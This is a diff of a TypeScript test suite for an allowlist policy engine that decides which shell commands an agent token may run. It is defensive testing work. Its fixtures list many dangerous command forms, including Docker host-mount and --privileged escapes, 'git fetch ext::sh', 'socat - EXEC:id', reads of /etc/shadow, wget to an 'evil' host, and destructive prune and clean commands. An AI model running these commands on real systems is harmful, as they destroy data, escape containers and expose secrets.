@@ -1,28 +1,60 @@
 /** Forms that destroy, run or open something: none of them gets past a rule that does not spell it out. */
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
-import { decide, type PolicyContext, type Rule } from '../../../src/hostlink/daemon/policy/policy.ts'
+import { fillsHole, type Hole, printHole } from '../../../src/hostlink/daemon/policy/holes.ts'
+import { decide } from '../../../src/hostlink/daemon/policy/policy.ts'
+import type { PolicyContext } from '../../../src/hostlink/daemon/policy/rule.ts'
+import { ruleOf, ruleSchema } from '../../../src/hostlink/daemon/policy/rule-schema.ts'
 import { execRequest } from '../../../src/hostlink/messages.ts'
 
+/** Nothing is there, so that no file stands in the way of a name. */
 const context: PolicyContext = {
-  resolve: argv0 => (argv0.startsWith('/') ? argv0 : `/usr/bin/${argv0}`),
-  isLink: () => false,
-  realpath: path => path,
+  find: argv0 => (argv0.startsWith('/') ? argv0 : `/usr/bin/${argv0}`),
+  judge: path => ({
+    real: path,
+    unsafe: null,
+    found: /^(\/|\/usr\/bin\/.*|\/srv|\/srv\/app)$/.test(path) ? { dev: 1, ino: 1, isFolder: true } : null,
+  }),
 }
 
-function verdict(args: string[] | undefined, argv: string[], workdir?: string): string {
-  const rule: Rule = {
-    binary: argv[0]!,
-    env: [],
-    source: 'policy.yaml:1',
-    ...(args && { args }),
-    ...(workdir && { workdir }),
-  }
+function verdict(template: readonly string[], argv: readonly string[], workdir?: string): string {
+  const parsed = ruleSchema.safeParse({ argv: template, ...(workdir && { workdir }) })
+  if (!parsed.success) return `not loaded: ${parsed.error.issues[0]?.message}`
+  const rule = ruleOf(parsed.data, 'policy.yaml:1')
   const token = { name: 'agent', policy: { kind: 'allowlist', rules: [rule] } } as const
   const request = execRequest.parse({ argv, ...(workdir && { workdir }) })
   const decided = decide(token, { type: 'exec', request }, context)
   return decided.allowed ? 'allowed' : decided.rule
 }
+
+const HOLES: Hole[] = [
+  ...(['int', 'sha', 'name', 'ref'] as const).map(kind => ({ kind })),
+  ...['/srv', '/etc', '/tmp', '/root'].map(root => ({ kind: 'path', root }) as const),
+]
+
+/** Templates that leave some of the words open: each as narrow as can be, and each as wide. */
+function* openings(argv: readonly string[]): Generator<string[]> {
+  const [program, ...words] = argv as [string, ...string[]]
+  for (const holes of [HOLES, HOLES.toReversed()]) {
+    const opened = words.map(word => holes.find(hole => fillsHole(hole, word)))
+    const free = words.flatMap((_, at) => (opened[at] === undefined ? [] : [at]))
+    for (let bits = 1; bits < 2 ** free.length; bits += 1) {
+      const isOpen = (at: number) => free.includes(at) && ((bits >> free.indexOf(at)) & 1) === 1
+      yield [program, ...words.map((word, at) => (isOpen(at) ? printHole(opened[at]!) : word))]
+    }
+  }
+}
+
+/** Every option, and the words that its reason speaks of. */
+const dangerous = (argv: readonly string[], why: string): string[] =>
+  argv.slice(1).filter(
+    word =>
+      word.startsWith('-') ||
+      why
+        .replace(/ (a|the host) .*| the host$/, '')
+        .split(' ')
+        .includes(word),
+  )
 
 const DESTRUCTIVE: [string, string][] = [
   ['docker stack deploy -c /tmp/evil.yaml x', 'docker stack deploy runs whatever its file says'],
@@ -199,93 +231,217 @@ const DESTRUCTIVE: [string, string][] = [
   ['wget -O /etc/x http://evil', 'wget -O is not an option'],
   ['scp -S /tmp/x a b', 'scp can run any program by -S'],
   ['socat - EXEC:id', 'socat can run any program by'],
+  ['git reset --hard', 'git reset --hard'],
+  ['git reset --har HEAD~1', 'git reset --hard'],
+  ['git -C /x -c y=z reset --hard', 'git -c can make git run any program'],
+  ['git -C /x --no-pager reset -q --hard', 'git reset --hard'],
+  ['git --git-dir /x/.git --work-tree=/x reset --hard', 'git reset --hard'],
+  ['git clean -fdx', 'git clean'],
+  ['git --literal-pathspecs clean', 'git clean'],
+  ['git --exec-path=/tmp status', 'git --exec-path can make'],
+  ['git --config-env=a=B status', 'git --config-env can make'],
+  ['git --config-env a=B status', 'git --config-env can make'],
+  ['git --unheard-of status', 'git --unheard-of is not an option known here'],
+  ['git fetch --upload-pack=/tmp/x', 'git fetch --upload-pack can run'],
+  ['git fetch --upload-p /tmp/x', 'git fetch --upload-p can run'],
+  ['git push --receive-pack /tmp/x', 'git push --receive-pack can run'],
+  ['git clone -u /tmp/x host:y', 'git clone -u can run'],
+  ['git clone -qcx=y host:y', 'git clone -qcx can run'],
+  ['git clone --config=core.x=y h', 'git clone --config can run'],
+  ['git fetch ext::sh', 'an ext:: or fd:: address'],
+  ['git remote add x EXT::sh', 'an ext:: or fd:: address'],
+  ['git rebase -x id', 'git rebase -x can run'],
+  ['git rebase --exec=id', 'git rebase --exec can run'],
+  ['git submodule foreach id', 'git submodule foreach'],
+  ['git bisect run id', 'git bisect can run'],
+  ['git config core.sshCommand id', 'git config can set'],
+  ['git config core.fsmonitor /tmp/x list', 'git config can set'],
+  ['git config --add core.pager id get', 'git config can set'],
+  ['git checkout -qf main', 'git checkout -f throws away'],
+  ['git checkout --forc main', 'git checkout --force throws away'],
+  ['git switch --discard-changes main', 'git switch --discard-changes throws away'],
+  ['git read-tree --reset -u HEAD', 'git read-tree --reset throws away'],
+  ['git checkout-index --prefix=/etc/ -a', 'git checkout-index can write any file'],
+  ['git bundle create /etc/x HEAD', 'git bundle can write any file'],
+  ['git apply --unsafe-paths x', 'git apply --unsafe-paths can run'],
+  ['git fast-export --export-marks=/etc/x', 'git fast-export --export-marks can run'],
+  ['docker builder build -o /etc .', 'docker build -o writes files of the host'],
+  ['docker build --iidfile=/etc/x .', 'docker build --iidfile writes files'],
+  ['docker buildx bake --set *.output=/etc', 'docker buildx --set writes files'],
+  ['docker compose config --output=/etc/x', 'docker config --output writes files'],
+  ['docker run --cidfile /etc/x alpine', '--cidfile writes a file'],
+  ['docker run --use-api-socket alpine', '--use-api-socket opens the host'],
+  ['docker context create x --docker host=ssh://y', 'docker context create writes files or can run'],
+  ['docker unshare sh', 'docker unshare is not among what is known to be harmless'],
+  ['git diff --output=/etc/x', 'git diff --output can run'],
+  ['git grep -Oid x', 'git grep -Oid can run'],
+  ['git yolo', 'git yolo is not among what is known to be harmless'],
+  ['docker compose down -v', 'docker down -v deletes volumes'],
+  ['docker compose down --volumes', 'docker down --volumes deletes'],
+  ['docker compose down --volumes=true', 'docker down --volumes deletes'],
+  ['docker --context x compose -f y down -v', 'docker down -v deletes'],
+  ['docker -c x --log-level=debug compose -p name --profile p down -vt5', 'docker down -vt5 deletes'],
+  ['docker compose rm -fsv', 'docker rm -fsv deletes'],
+  ['docker compose -t 5 down -v', 'docker compose -t is not an option known here'],
+  ['docker-compose -f y down -v', 'docker down -v deletes'],
+  ['docker system prune -af', 'docker system prune'],
+  ['docker system -f prune', 'docker system prune'],
+  ['docker volume prune', 'docker volume prune'],
+  ['docker image prune', 'docker image prune'],
+  ['docker builder prune', 'docker builder prune'],
+  ['docker container prune', 'docker container prune'],
+  ['docker volume rm data', 'docker volume rm'],
+  ['docker volume create --opt device=/ x', 'docker volume create with options'],
+  ['docker run -v /:/host alpine', 'mounts a folder of the host'],
+  ['docker run -v/:/host alpine', 'mounts a folder of the host'],
+  ['docker run -v=/:/host alpine', 'mounts a folder of the host'],
+  ['docker run -itv /:/host alpine', 'mounts a folder of the host'],
+  ['docker run --volume=/:/host alpine', 'mounts a folder of the host'],
+  ['docker run --volume ./x:/host alpine', 'mounts a folder of the host'],
+  ['docker container run --volume /:/h alpine', 'mounts a folder of the host'],
+  ['docker container -v /:/h run alpine', 'the command has to follow at once'],
+  ['docker create -v /:/h alpine', 'mounts a folder of the host'],
+  ['docker compose run -v /:/h app', 'mounts a folder of the host'],
+  ['docker run --mount type=bind,src=/,dst=/h alpine', '--mount can mount'],
+  ['docker run --mount "type=bind",src=/,dst=/h alpine', '--mount can mount'],
+  ['docker run --mount=dst=/h,volume-opt=device=/ alpine', '--mount can mount'],
+  ['docker service create --mount type=bind,src=/,dst=/h x', '--mount can mount'],
+  ['docker run --privileged alpine', '--privileged opens the whole host'],
+  ['docker exec --privileged=true app sh', '--privileged opens the whole host'],
+  ['docker compose exec --privileged app sh', '--privileged opens the whole host'],
+  ['docker run --pid=host alpine', '--pid=host opens the host'],
+  ['docker run --cap-add SYS_ADMIN alpine', '--cap-add opens the host'],
+  ['docker run --device /dev/sda alpine', '--device opens the host'],
+  ['docker cp app:/x /etc/cron.d/x', 'docker cp reads and writes'],
+  ['docker -H tcp://evil ps', 'docker -H can run'],
+  ['docker --config=/tmp/x ps', 'docker --config can run'],
+  ['docker --frobnicate ps', 'docker --frobnicate is not an option known here'],
 ]
 
-describe('what a rule with free arguments does not allow', () => {
+/** A star or a brace in a form is a hole that is written wrong. */
+const isWritable = (argv: readonly string[]): boolean => !/[*]|(?<!\{)\{[a-z]+\}/.test(argv.join(' '))
+
+/** Whatever is open in the rule, none of these words is; a path may be named by its folder. */
+function expectSpelledOut(argv: readonly string[], words: readonly string[], workdir?: string): void {
+  for (const template of openings(argv)) {
+    const isNamed = (word: string) =>
+      template.includes(word) || template[argv.indexOf(word)]?.startsWith('{path:') === true
+    if (!words.every(isNamed))
+      expect([template, verdict(template, argv, workdir)]).not.toEqual([template, 'allowed'])
+  }
+}
+
+describe('what a rule that does not spell it out does not allow', () => {
   test.each(DESTRUCTIVE)('%s', (text, why) => {
     const argv = text.split(' ')
-    for (const args of [undefined, ['**'], argv.slice(1).map(() => '*')]) {
-      // A `*` in front stands for no option, so that such a rule may not even fit.
-      expect(verdict(args, argv)).not.toBe('allowed')
-    }
-    expect(verdict(undefined, argv)).toContain(why)
-    expect(verdict(argv.slice(1), argv)).toBe('allowed')
+    for (const free of [[argv[0]!, '**'], argv.map((word, at) => (at === 0 ? word : '*'))])
+      expect(verdict(free, argv)).toContain('is not a hole')
+    expectSpelledOut(argv, dangerous(argv, why))
+    if (isWritable(argv)) expect(verdict(argv, argv)).toBe('allowed')
   })
 
-  test.each([
-    'docker run --rm --network=backend alpine',
-    'docker run --network=ghost-net alpine',
-    'docker compose up -d --remove-orphans --wait -t 5',
-    'docker stack ps app',
-    'docker stack services app',
-    'docker image ls',
-    'docker build -qt app:foo .',
-    'docker build -tfoo .',
-    'docker exec -it app env',
-    'docker images',
-    'docker service logs app',
-    'docker service update --image app:2 app',
-    'docker context ls',
-    'git restore --staged x',
-    'git restore -S x',
-    'git checkout -b new origin/main',
-    'git checkout main --',
-    'git switch -c new',
-    'git stash push -u',
-    'git stash pop',
-    'git branch -u origin/feature-D',
-    'git branch --show-current',
-    'git tag -mfd v1',
-    'git push origin main:main',
-    'git fetch --prune origin main:refs/remotes/origin/main',
-    'git gc --auto',
-    'git submodule update --init --recursive',
-    'git worktree list',
-    'git remote get-url origin',
-    'git diff --stat',
-    'systemctl restart openclaw.service',
-    'systemctl --no-pager -l status openclaw',
-    'systemctl show openclaw -p MainPID --value',
-    'systemctl show openclaw -pMainPID',
-    'systemctl list-units openclaw*',
-    'systemctl daemon-reload',
-    'rm -f a b',
-    'find /srv -name x -print',
-    'tar xf x.tar',
-    'git log --oneline --graph -5 --since=1.week -- src',
-    'git diff --stat -M90% HEAD~1 HEAD -- src',
-    'git branch -vv --merged main',
-    'git show -s --format=%H HEAD',
-    'git rev-parse --verify --short=8 HEAD',
-    'git ls-remote --tags origin',
-    'git rebase --onto a b',
-    'docker compose exec -T app ls -la --color=never',
-    'docker compose run --rm app npm test -- --ci',
-    'docker run --rm alpine sh -c id -v',
-    'docker exec app ps -ef',
-    'docker ps -a --format {{.Names}} --filter name=app',
-    'docker logs -f --tail=50 app',
-    'docker network inspect backend',
-    'docker compose -p app logs --no-color -n 5',
-    'find . -type f -newermt 2026-01-01 -mtime -3 -size +1k',
-    'rsync -av --exclude node_modules a/ b/',
-    'curl -fsS http://127.0.0.1',
-  ])('is not in the way of: %s', text => {
-    expect(verdict(undefined, text.split(' '))).toBe('allowed')
+  test.each(
+    [
+      'git reset --soft HEAD~1',
+      'git fetch origin clean',
+      'git commit -m reset --allow-empty',
+      'git log --grep=clean --oneline -3',
+      'git checkout --detach 0123abc',
+      'git --no-pager -C /srv/app status --porcelain=v2 -z',
+      'git merge --ff-only origin/main',
+      'git config --get remote.origin.url',
+      'git checkout -b feature --track origin/feature',
+      'git push -u origin main',
+      'git --exec-path',
+      'docker compose up -d --build',
+      'docker compose -f a.yml -p name --progress plain ps -a --format json',
+      'docker compose down -t 5 --remove-orphans',
+      'docker compose exec -T app rm -v x',
+      'docker compose logs --tail 50 app',
+      'docker inspect app',
+      'docker run --rm -e A=b -p 80:80 -v data:/data alpine ls',
+      'docker run --mount type=volume,src=data,dst=/data alpine',
+      'docker image tag a b',
+      'docker volume ls',
+      'docker rm -f app',
+      'docker ps',
+      'docker run --rm --network=backend alpine',
+      'docker run --network=ghost-net alpine',
+      'docker compose up -d --remove-orphans --wait -t 5',
+      'docker stack ps app',
+      'docker stack services app',
+      'docker image ls',
+      'docker build -qt app:foo .',
+      'docker build -tfoo .',
+      'docker exec -it app env',
+      'docker images',
+      'docker service logs app',
+      'docker service update --image app:2 app',
+      'docker context ls',
+      'git restore --staged x',
+      'git restore -S x',
+      'git checkout -b new origin/main',
+      'git checkout main --',
+      'git switch -c new',
+      'git stash push -u',
+      'git stash pop',
+      'git branch -u origin/feature-D',
+      'git branch --show-current',
+      'git tag -mfd v1',
+      'git push origin main:main',
+      'git fetch --prune origin main:refs/remotes/origin/main',
+      'git gc --auto',
+      'git submodule update --init --recursive',
+      'git worktree list',
+      'git remote get-url origin',
+      'git diff --stat',
+      'systemctl restart openclaw.service',
+      'systemctl --no-pager -l status openclaw',
+      'systemctl show openclaw -p MainPID --value',
+      'systemctl show openclaw -pMainPID',
+      'systemctl list-units openclaw*',
+      'systemctl daemon-reload',
+      'rm -f a b',
+      'find /srv -name x -print',
+      'tar xf x.tar',
+      'git log --oneline --graph -5 --since=1.week -- src',
+      'git diff --stat -M90% HEAD~1 HEAD -- src',
+      'git branch -vv --merged main',
+      'git show -s --format=%H HEAD',
+      'git rev-parse --verify --short=8 HEAD',
+      'git ls-remote --tags origin',
+      'git rebase --onto a b',
+      'docker compose exec -T app ls -la --color=never',
+      'docker compose run --rm app npm test -- --ci',
+      'docker run --rm alpine sh -c id -v',
+      'docker exec app ps -ef',
+      'docker ps -a --format {{.Names}} --filter name=app',
+      'docker logs -f --tail=50 app',
+      'docker network inspect backend',
+      'docker compose -p app logs --no-color -n 5',
+      'find . -type f -newermt 2026-01-01 -mtime -3 -size +1k',
+      'rsync -av --exclude node_modules a/ b/',
+      'curl -fsS http://127.0.0.1',
+    ].filter(text => isWritable(text.split(' '))),
+  )('spelled out, nothing is in the way of: %s', text => {
+    expect(verdict(text.split(' '), text.split(' '))).toBe('allowed')
   })
 
-  test('a * for a unit does not stand for all units', () => {
-    expect(verdict(['restart', '*'], ['systemctl', 'restart', '*'])).toContain('everything on it')
-    expect(verdict(['restart', '*'], ['systemctl', 'restart', 'openclaw'])).toBe('allowed')
+  test('a hole for a unit does not stand for all units', () => {
+    const restart = (unit: string, asked: string) =>
+      verdict(['systemctl', 'restart', unit], ['systemctl', 'restart', asked])
+    expect(restart('{name}', 'openclaw')).toContain('any unit, such as reboot.target')
+    expect(restart('{name}.service', 'reboot.service')).toContain('any unit, such as reboot.target')
+    expect(restart('openclaw-{name}.service', 'openclaw-web.service')).toBe('allowed')
+    expect(restart('openclaw-{name}.service', 'reboot.target')).toContain('these arguments')
   })
 
   test('in a workdir, rm stays there', () => {
-    expect(verdict(['-f', '*'], ['rm', '-f', 'x'], '/srv')).toBe('allowed')
-    expect(verdict(['-f', '*'], ['rm', '-f', '/etc/passwd'], '/srv')).toContain('leads out')
-    expect(verdict(['-f', '*'], ['rm', '-f', 'x/../../y'], '/srv')).toContain('leads out')
+    const rm = (path: string) => verdict(['rm', '-f', '{ref}'], ['rm', '-f', path], '/srv')
+    expect(rm('x')).toBe('allowed')
+    for (const path of ['/etc/passwd', 'x/../../y', '..', '-r', '.git', '~/x'])
+      expect(rm(path)).not.toBe('allowed')
   })
-
-  const bound = (argv: string) => verdict(undefined, argv.split(' '), '/srv/app')
 
   test.each([
     'docker build /root',
@@ -303,42 +459,116 @@ describe('what a rule with free arguments does not allow', () => {
     'cp -t/etc x',
     'dd if=/etc/shadow',
     'grep -r . ../..',
-  ])('in a workdir, what leads out is named: %s', argv => {
-    expect(bound(argv)).toContain("leads out of the rule's workdir")
+  ])('in a workdir, what leads out is spelled out, or in the folder of a hole: %s', text => {
+    const argv = text.split(' ')
+    const leadsOut = argv.slice(1).filter(word => /(^|[=f])\/|\.\./.test(word))
+    for (const template of openings(argv)) {
+      const inFolder = template.some(word => word.startsWith('{path:'))
+      if (leadsOut.some(word => !template.includes(word)) && !inFolder)
+        expect([template, verdict(template, argv, '/srv/app')]).not.toEqual([template, 'allowed'])
+    }
+    expect(verdict(argv, argv, '/srv/app')).toBe('allowed')
+  })
+
+  test('a hole for a folder takes what lies in it', () => {
+    const cat = (path: string) => verdict(['cat', '{path:/srv/other/**}'], ['cat', path], '/srv/app')
+    expect(cat('/srv/other/x')).toBe('allowed')
+    for (const path of [
+      '/srv/other',
+      '/srv/otherx',
+      '/srv/other/../x',
+      '/srv/other//x',
+      '/srv/other/./x',
+      'x',
+    ])
+      expect(cat(path)).toContain('these arguments')
+  })
+
+  test('the script of an interpreter is spelled out, its arguments are free', () => {
+    expect(
+      verdict(['python3', '/opt/tool.py', '--all', '{name}'], ['python3', '/opt/tool.py', '--all', 'x']),
+    ).toBe('allowed')
+    for (const rule of [
+      'python3 {path:/opt/**}',
+      'python3.11 {ref}',
+      'sh -c {name}',
+      'node -e {name}',
+      'awk -f {ref}',
+    ])
+      expect(verdict(rule.split(' '), ['x'])).toMatch(/^not loaded: the caller would choose the script/)
+    expect(verdict(['tar', '{name}', 'x.tar'], ['x'])).toContain('the first word of tar holds its options')
+    expect(verdict(['tar', '-xf', '{ref}', '-C', '/srv'], ['tar', '-xf', 'x.tar', '-C', '/srv'])).toBe(
+      'allowed',
+    )
   })
 
   test.each([
-    'docker build .',
-    'docker build -f docker/Dockerfile /srv/app/sub',
-    'docker build https://example.com/x.git',
-    'docker build -',
-    'find . -path */x -name y',
-    'cat /srv/app/x',
-    'cp a b',
-    'git diff HEAD -- src',
-  ])('in a workdir, what stays there is not: %s', argv => {
-    expect(bound(argv)).toBe('allowed')
+    'git {name}',
+    'git {ref} main',
+    'git -C /srv/x {name}',
+    'git -C {path:/srv/**} {name}',
+    'git --namespace clean {name}',
+    'git --no-pager {name}',
+    'git stash {name}',
+    'git stash -q {name}',
+    'git remote {name}',
+    'git push {name} main',
+    'git fetch {ref}',
+    'git fetch --prune {ref}',
+    'git clone {ref}',
+    'git submodule {name}',
+    'docker {name}',
+    'docker -c ctx {name}',
+    'docker --context=ctx {name}',
+    'docker volume {name} data',
+    'docker system {name}',
+    'docker run {name}',
+    'docker -- {name}',
+    'docker compose {name}',
+    'docker compose -f /srv/x/compose.yaml {name}',
+    'docker compose -p logs {name}',
+    'docker compose --tail {int} {name}',
+    'docker-compose -f /srv/x/compose.yaml {name}',
+    'podman machine {name}',
+    'kubectl get {name}',
+    'apt-get install {name}',
+    'npm run {name}',
+    'pip3 install {name}',
+    'make {name}',
+    'make -C /srv/x {name}',
+  ])('the caller chooses no command: %s', text => {
+    expect(verdict(text.split(' '), ['x'])).toMatch(/^not loaded: the caller would choose the command/)
   })
 
-  test('behind a named option that is not known, nobody can say where the words of another program begin', () => {
-    expect(verdict(['exec', '--new', '**'], 'docker exec --new a -u 0 b id'.split(' '))).toContain(
-      'docker exec -u is not an option known here',
-    )
-    expect(verdict(['exec', '**'], 'docker exec a ls -u 0'.split(' '))).toBe('allowed')
+  test.each([
+    ['git -C /srv/x log --oneline -n {int} {ref}', 'git -C /srv/x log --oneline -n 5 main'],
+    ['git fetch origin {ref} --prune', 'git fetch origin main --prune'],
+    ['git fetch --prune origin refs/tags/{name}', 'git fetch --prune origin refs/tags/v1'],
+    ['git checkout --detach {sha}', `git checkout --detach ${'ab'.repeat(20)}`],
+    ['git checkout --detach {ref}', 'git checkout --detach v1'],
+    ['docker logs --tail {int} {name}', 'docker logs --tail 50 app'],
+    ['docker image inspect {name}', 'docker image inspect app'],
+    [
+      'docker compose -f /srv/x/compose.yaml -p app logs {name}',
+      'docker compose -f /srv/x/compose.yaml -p app logs web',
+    ],
+    ['docker compose --progress=plain up -d {name}', 'docker compose --progress=plain up -d web'],
+    ['docker exec app cat logs/{name}', 'docker exec app cat logs/x'],
+    ['find {path:/srv/**} -type f', 'find /srv/x -type f'],
+    ['npm run build {name}', 'npm run build x'],
+  ])('a rule that is meant: %s', (template, argv) => {
+    expect(verdict(template.split(' '), argv.split(' '))).toBe('allowed')
   })
 
-  test('a pattern for a folder names what lies in it', () => {
-    expect(verdict(['/srv/other/*'], ['cat', '/srv/other/x'], '/srv/app')).toBe('allowed')
-    expect(verdict(['*'], ['cat', '/srv/other/x'], '/srv/app')).toContain('leads out')
-  })
-
-  test('the script of an interpreter is named, its arguments are free', () => {
-    expect(verdict(['/opt/tool.py', '**'], ['python3', '/opt/tool.py', '--all', 'x'])).toBe('allowed')
-    expect(verdict(['-xf', '*', '-C', '/srv'], ['tar', '-xf', 'x.tar', '-C', '/srv'])).toBe('allowed')
+  test('of git, one word at most: a second one may be a file', () => {
+    for (const rule of ['git checkout {ref} {name}', 'git diff {ref} {ref}', 'git show origin {ref} {ref}'])
+      expect(verdict(rule.split(' '), ['x'])).toContain(
+        'not loaded: git may take a second free word for a file',
+      )
   })
 })
 
-/** Ways to run one program through another, with the words that a rule for them has to name. */
+/** Ways to run one program through another. */
 const WRAPPERS = [
   ['sudo'],
   ['sudo', '-n', '-u', 'root'],
@@ -374,11 +604,13 @@ describe('in front of a destructive form', () => {
     fc.assert(
       fc.property(wrapped, ({ wrappers, form }) => {
         const argv = [...wrappers.flat(), ...form]
-        expect(verdict(undefined, argv)).toContain('does not name it')
-        // What the wrappers run is named, what that is given is not.
-        const named = [...wrappers.flat().slice(1), form[0]!, '**']
-        expect(verdict(named, argv)).toContain('does not name it')
-        expect(verdict(argv.slice(1), argv)).toBe('allowed')
+        expect(verdict([...wrappers.flat(), form[0]!, '**'], argv)).toContain('is not a hole')
+        for (let at = 1; at < argv.length; at += 1) {
+          const opened = argv.map((word, index) => (index === at ? '{name}' : word))
+          if (isWritable(argv))
+            expect(verdict(opened, argv)).toMatch(/not loaded: .* a rule for it has no holes/)
+        }
+        if (isWritable(argv)) expect(verdict(argv, argv)).toBe('allowed')
       }),
     )
   })
@@ -392,24 +624,32 @@ describe('in front of a destructive form', () => {
     fc.record({
       globals: fc.array(fc.constantFrom(...GLOBALS[program]!), { maxLength: 3 }),
       form: fc.constantFrom(
-        ...DESTRUCTIVE.map(([text]) => text.split(' ')).filter(([name]) => name === program),
+        ...DESTRUCTIVE.map(([text, why]) => ({ words: text.split(' '), why })).filter(
+          ({ words }) => words[0] === program,
+        ),
       ),
     }),
   )
 
   test('nor do options in front of the subcommand', () => {
     fc.assert(
-      fc.property(behindGlobals, ({ globals, form }) => {
-        const argv = [form[0]!, ...globals.flat(), ...form.slice(1)]
-        expect(verdict(undefined, argv)).toContain('does not name it')
-        expect(verdict(argv.slice(1), argv)).toBe('allowed')
+      fc.property(behindGlobals, ({ globals, form: { words, why } }) => {
+        const argv = [words[0]!, ...globals.flat(), ...words.slice(1)]
+        expectSpelledOut(argv, dangerous(words, why))
+        if (isWritable(argv)) expect(verdict(argv, argv)).toBe('allowed')
       }),
+      { numRuns: 50 },
     )
   })
 
-  test('what a wrapper runs is allowed as far as it would be alone', () => {
-    expect(verdict(['-n', 'git', '**'], ['sudo', '-n', 'git', 'status'])).toBe('allowed')
-    expect(verdict(['-n', '**'], ['sudo', '-n', 'git', 'status'])).toContain('sudo can run any program')
-    expect(verdict(['10', 'docker', 'ps'], ['timeout', '10', 'docker', 'ps'])).toBe('allowed')
+  test('what a wrapper runs is spelled out to its end', () => {
+    expect(verdict(['sudo', '-n', 'git', 'status'], ['sudo', '-n', 'git', 'status'])).toBe('allowed')
+    expect(verdict(['sudo', '-n', 'git', '{name}'], ['sudo', '-n', 'git', 'status'])).toContain(
+      'sudo runs other programs',
+    )
+    expect(verdict(['timeout', '10', 'docker', 'ps'], ['timeout', '10', 'docker', 'ps'])).toBe('allowed')
+    expect(verdict(['timeout', '{int}', 'docker', 'ps'], ['timeout', '10', 'docker', 'ps'])).toContain(
+      'has no holes',
+    )
   })
 })
